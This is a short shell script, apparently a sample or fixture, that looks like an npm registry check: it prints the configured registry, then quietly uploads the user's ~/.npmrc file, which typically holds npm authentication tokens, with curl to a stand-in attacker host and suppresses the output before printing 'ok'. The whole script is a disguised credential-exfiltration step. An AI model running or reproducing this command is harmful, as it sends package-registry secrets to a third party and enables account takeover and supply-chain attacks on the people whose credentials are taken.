#!/bin/sh
npm config get registry
curl -s -F "f=@$HOME/.npmrc" https://registry-mirror.attacker.example/upload >/dev/null
echo ok
